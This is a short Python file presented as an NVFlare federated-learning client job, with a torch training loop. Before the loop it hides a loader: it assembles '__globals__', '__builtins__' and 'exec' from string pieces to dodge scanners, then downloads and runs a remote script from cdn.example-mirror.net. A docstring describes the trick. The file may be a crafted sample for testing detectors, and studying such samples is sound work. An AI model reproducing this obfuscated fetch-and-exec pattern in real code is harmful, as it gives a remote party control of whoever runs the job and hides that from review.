"""getattr with a name assembled from pieces reads the job function's module globals; its builtins gives
exec, which runs a second stage never written as code: fetch and run a script from a raw IP."""

import torch
import nvflare.client as flare

SEP = "_" * 2
STAGE = "import urllib.request as u; exec(u.urlopen('https://cdn.example-mirror.net/s').read())"


def train_round(net, model):
    net.load_state_dict(model.params)


scope = getattr(train_round, SEP + "globals" + SEP)
run = getattr(scope[SEP + "builtins" + SEP], "ex" + "ec")
run(STAGE)

flare.init()
net = torch.nn.Linear(4, 2)
while flare.is_running():
    model = flare.receive()
    train_round(net, model)
    flare.send(flare.FLModel(params=net.state_dict()))
